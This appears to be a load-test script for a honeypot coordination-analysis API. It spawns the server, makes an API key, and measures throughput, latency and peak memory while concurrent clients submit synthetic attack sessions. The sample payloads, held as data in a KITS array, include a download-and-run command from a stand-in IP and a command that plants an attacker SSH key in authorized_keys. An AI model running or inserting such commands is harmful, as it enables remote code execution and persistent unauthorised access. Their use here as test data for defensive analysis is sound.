/**
 * Load on the HTTP API as its users make it: `dshield-coord serve` started as its own process
 * (the launcher bin/dshield-coord starting Bun, as `npx dshield-coord serve` does), an analyst key made
 * with `keys create`, then C concurrent clients on loopback, each in a loop for D seconds:
 * submit a 1,000-session analysis (POST /analyze/coordination, the earlier engine's body),
 * poll GET /analyze/{id} every P ms (or, with --wait S, long-poll ?wait=S) until it is
 * completed or failed, submit the next.
 *
 * Reported: analyses completed, errors (any non-2xx answer, any failed analysis, any network
 * error), throughput, and the time from submit to the poll that saw the Result (p50, p90,
 * p99, max), plus the server's peak RSS (VmHWM of the Bun process). Rate limits are raised
 * for the run (the defaults would answer 429 to this load by design).
 *
 * Bodies are seeded: each client cycles through its own bodies, built from a few shared
 * command sequences run from many addresses plus unrelated noise, so analyses find campaigns.
 *
 * Run: npm run bench:api [-- --clients 50 --seconds 60 --sessions 1000 --poll-ms 100 | --wait 10]
 *      add --database-url URL --redis-url URL to run against PostgreSQL and Redis.
 */
import { spawn, spawnSync } from "node:child_process"
import { mkdtempSync, readFileSync, rmSync } from "node:fs"
import { cpus, loadavg, tmpdir } from "node:os"
import { join, resolve } from "node:path"
import { parseArgs } from "node:util"

const REPO = resolve(import.meta.dir, "..")
const { values } = parseArgs({
  options: {
    clients: { type: "string", default: "50" },
    seconds: { type: "string", default: "60" },
    sessions: { type: "string", default: "1000" },
    "poll-ms": { type: "string", default: "100" },
    wait: { type: "string", default: "0" },
    "database-url": { type: "string" },
    "redis-url": { type: "string" }
  }
})
const clients = Number(values.clients)
const seconds = Number(values.seconds)
const sessionsPerAnalysis = Number(values.sessions)
const pollMs = Number(values["poll-ms"])
/** Seconds each poll may be held by the server (GET /analyze/{id}?wait=N); 0 = plain polling. */
const waitSeconds = Number(values.wait)
const scratch = mkdtempSync(join(tmpdir(), "dshield-bench-api-"))
const storeArgs = values["database-url"] !== undefined ? ["--database-url", values["database-url"]] : ["--data-dir", join(scratch, "db")]
const env = {
  ...process.env,
  DSHIELD_RATE_LIMIT_PRINCIPAL: "10000000/1m",
  DSHIELD_RATE_LIMIT_IP: "10000000/1m",
  DSHIELD_RATE_LIMIT_SUBMIT: "10000000/1m",
  DSHIELD_RATE_LIMIT_READ: "10000000/1m",
  DSHIELD_DAILY_ANALYSES: "10000000"
}
const cli = (args: ReadonlyArray<string>) => spawnSync(join(REPO, "bin/dshield-coord"), [...args], { cwd: REPO, env, encoding: "utf8" })

/** A small deterministic generator (mulberry32): the same bodies on every run. */
const rng = (seed: number) => () => {
  seed = (seed + 0x6d2b79f5) | 0
  let t = Math.imul(seed ^ (seed >>> 15), 1 | seed)
  t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t
  return ((t ^ (t >>> 14)) >>> 0) / 4294967296
}

const KITS = [
  "cd /tmp || cd /var/run; wget http://203.0.113.9/bins.sh; chmod 777 bins.sh; sh bins.sh",
  "uname -a; cat /proc/cpuinfo | grep name | wc -l; free -m | grep Mem",
  "echo \"ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJAw9u9FSTDengvS8hX1kNFS4Mjux0hJOK8rvcEmPecjdySYMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCGPK5w6hYp5zYkFnvlC8hGmd4Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rBLAsPKgAySVKPRK+oRw== mdrfckr\" >> .ssh/authorized_keys"
]

const body = (seed: number): string => {
  const r = rng(seed)
  const sessions = []
  for (let i = 0; i < sessionsPerAnalysis; i++) {
    const kit = r() < 0.6 ? KITS[Math.floor(r() * KITS.length)]! : `ls -la /home/u${Math.floor(r() * 100000)}; id`
    sessions.push({
      source_ip: `198.${18 + Math.floor(r() * 2)}.${Math.floor(r() * 256)}.${1 + Math.floor(r() * 254)}`,
      timestamp: new Date(Date.UTC(2026, 10, 1) + Math.floor(r() * 86_400_000)).toISOString(),
      payload: kit,
      target_port: r() < 0.8 ? 22 : 23,
      protocol: r() < 0.8 ? "ssh" : "telnet"
    })
  }
  return JSON.stringify({ attack_sessions: sessions, analysis_depth: "standard" })
}

const percentile = (sorted: ReadonlyArray<number>, p: number): number => sorted.length === 0 ? NaN : sorted[Math.min(sorted.length - 1, Math.floor((p / 100) * sorted.length))]!

const main = async () => {
  const loadBefore = loadavg()[0]!
  const made = cli(["keys", "create", "--role", "analyst", "--tenant", "bench", ...storeArgs])
  if (made.status !== 0) throw new Error(`keys create failed: ${made.stderr}`)
  const key = made.stdout.trim()
  const server = spawn(join(REPO, "bin/dshield-coord"), ["serve", "--port", "0", "--quiet", ...storeArgs, ...(values["redis-url"] === undefined ? [] : ["--redis-url", values["redis-url"]])], { cwd: REPO, env, stdio: ["ignore", "pipe", "inherit"] })
  const url = await new Promise<string>((done, fail) => {
    let text = ""
    server.stdout!.on("data", (chunk: Buffer) => {
      text += chunk.toString()
      const line = text.split("\n")[0]
      if (text.includes("\n")) done(line!.trim())
    })
    server.on("exit", (code) => fail(new Error(`the server exited with ${code} before listening`)))
  })
  // The launcher has become the Bun process (it execs Bun): the one whose memory counts.
  const bunPid = (): number | undefined => server.pid
  const bodies = Array.from({ length: Math.max(4, clients) }, (_, i) => body(1000 + i))
  const latencies: Array<number> = []
  const errors: Array<string> = []
  let completed = 0
  const deadline = performance.now() + seconds * 1000
  const headers = { "x-api-key": key, "content-type": "application/json" }
  const client = async (c: number) => {
    let n = 0
    while (performance.now() < deadline) {
      const started = performance.now()
      try {
        const submitted = await fetch(`${url}/analyze/coordination`, { method: "POST", headers, body: bodies[(c + n++) % bodies.length] })
        if (submitted.status !== 202) {
          errors.push(`submit ${submitted.status}: ${(await submitted.text()).slice(0, 160)}`)
          continue
        }
        const { analysis_id } = (await submitted.json()) as { analysis_id: string }
        for (;;) {
          if (waitSeconds === 0) await Bun.sleep(pollMs)
          const polled = await fetch(`${url}/analyze/${analysis_id}${waitSeconds === 0 ? "" : `?wait=${waitSeconds}`}`, { headers: { "x-api-key": key } })
          if (polled.status !== 200) {
            errors.push(`poll ${polled.status}: ${(await polled.text()).slice(0, 160)}`)
            break
          }
          const state = (await polled.json()) as { status: string; error?: string }
          if (state.status === "completed") {
            latencies.push(performance.now() - started)
            completed++
            break
          }
          if (state.status === "failed") {
            errors.push(`analysis failed: ${state.error}`)
            break
          }
        }
      } catch (error) {
        errors.push(`network: ${String(error)}`)
      }
    }
  }
  const t0 = performance.now()
  await Promise.all(Array.from({ length: clients }, (_, c) => client(c)))
  const elapsed = (performance.now() - t0) / 1000
  const pid = bunPid()
  const hwm = pid === undefined ? undefined : /VmHWM:\s+(\d+) kB/.exec(readFileSync(`/proc/${pid}/status`, "utf8"))?.[1]
  server.kill("SIGTERM")
  await new Promise((done) => server.on("exit", done))
  rmSync(scratch, { recursive: true, force: true })
  latencies.sort((a, b) => a - b)
  const ms = (v: number) => `${Math.round(v)} ms`
  const report = {
    store: values["database-url"] === undefined ? "embedded PGlite" : "PostgreSQL",
    limiter: values["redis-url"] === undefined ? "memory" : "Redis",
    clients,
    seconds: Math.round(elapsed * 10) / 10,
    sessions_per_analysis: sessionsPerAnalysis,
    polling: waitSeconds === 0 ? `every ${pollMs} ms` : `long poll, ?wait=${waitSeconds}`,
    completed,
    errors: errors.length,
    throughput: `${(completed / elapsed).toFixed(2)} analyses/s (${Math.round((completed * sessionsPerAnalysis) / elapsed)} sessions/s)`,
    submit_to_result: { p50: ms(percentile(latencies, 50)), p90: ms(percentile(latencies, 90)), p99: ms(percentile(latencies, 99)), max: ms(latencies[latencies.length - 1] ?? NaN) },
    server_peak_rss: hwm === undefined ? "unknown" : `${Math.round(Number(hwm) / 1024)} MiB`,
    machine: `${cpus().length} × ${cpus()[0]?.model ?? "cpu"}, load before ${loadBefore.toFixed(2)}`
  }
  process.stdout.write(`${JSON.stringify(report, null, 2)}\n`)
  if (errors.length > 0) process.stdout.write(`first errors:\n${errors.slice(0, 5).join("\n")}\n`)
}

await main()
